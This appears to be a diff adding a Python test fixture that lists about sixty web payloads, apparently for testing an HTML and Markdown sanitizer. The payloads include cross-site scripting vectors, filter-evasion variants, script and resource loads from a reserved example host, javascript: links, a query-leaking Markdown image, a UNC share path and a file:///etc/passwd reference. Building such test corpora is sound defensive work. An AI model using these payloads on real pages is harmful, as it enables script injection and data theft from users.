@@ -1,0 +1,73 @@
+"""Sixty texts that a careless page would act on: run, fetch, follow or submit. All are our own."""
+
+HOST = "192.0.2.9"  # of a network kept for examples: nothing answers there
+RUN = "window.ran=1"
+U = f"http://{HOST}"
+
+ACTIVE_PAYLOADS = (
+    # scripts
+    f"<script>{RUN}</script>",
+    f"<script src={U}/a.js></script>",
+    f"</script><script>{RUN}</script>",
+    f"<scr<script>ipt>{RUN}</script>",
+    f"<ScRiPt\n>{RUN}</sCrIpT >",
+    f"<script type=module>import '{U}/m.js'</script>",
+    f'"><script>{RUN}</script>',
+    f"'-({RUN})-'",
+    f"${{{RUN}}}",
+    f"{{{{constructor.constructor('{RUN}')()}}}}",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"＜script＞{RUN}＜/script＞",
+    f"<\u200bscript>{RUN}</script>",
+    # handlers
+    f'<img src=x onerror="{RUN}">',
+    f"<img src=x onerror={RUN}//",
+    f'<svg onload="{RUN}"></svg>',
+    f"<svg/onload={RUN}>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>見出し</details>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<marquee onstart={RUN}>点検</marquee>",
+    f"<b onmouseover={RUN}>点検</b>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    f"<template><img src=x onerror={RUN}></template>",
+    f"<x contenteditable onblur={RUN} autofocus tabindex=1>",
+    # fetching
+    f'<img src="{U}/pixel.png">',
+    f"<img srcset='{U}/2x.png 2x'>",
+    f"<picture><source srcset={U}/p.png><img></picture>",
+    f"<iframe src={U}/></iframe>",
+    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
+    f"<object data={U}/o></object>",
+    f"<embed src={U}/e>",
+    f"<link rel=stylesheet href={U}/s.css>",
+    f"<link rel=prefetch href={U}/p>",
+    f"<style>@import '{U}/a.css';</style>",
+    f'<div style="background:url({U}/b.png)">点検</div>',
+    f"<table background={U}/t.png><tr><td>点検",
+    f"<video poster={U}/v.png></video>",
+    f"<svg><image href={U}/i.png /><use href={U}/u.svg#a /></svg>",
+    # leading away
+    f"<meta http-equiv=refresh content='0;url={U}/'>",
+    f"<base href={U}/>",
+    f"<form action={U}/><button>送る</button></form>",
+    f"<a href={U}/?q=1 ping={U}/ping>計画書の12ページ</a>",
+    f"<a href=javascript:{RUN}>こちら</a>",
+    f"<button formaction=javascript:{RUN}>開く</button>",
+    # the same in Markdown and in bare addresses
+    f"![図]({U}/?q=要約)",
+    f"![図][r]\n[r]: {U}/ref.png",
+    f"[こちら](javascript:{RUN})",
+    f"[計画書の12ページ]({U}/docs/1#p12)",
+    f"<{U}/auto>",
+    f"[x](data:text/html,<script>{RUN}</script>)",
+    "file:///etc/passwd",
+    f"\\\\{HOST}\\share\\a.docx",
+    f"ms-word:ofe|u|{U}/a.docx",
+    f"mailto:a@{HOST}?body=点検",
+)
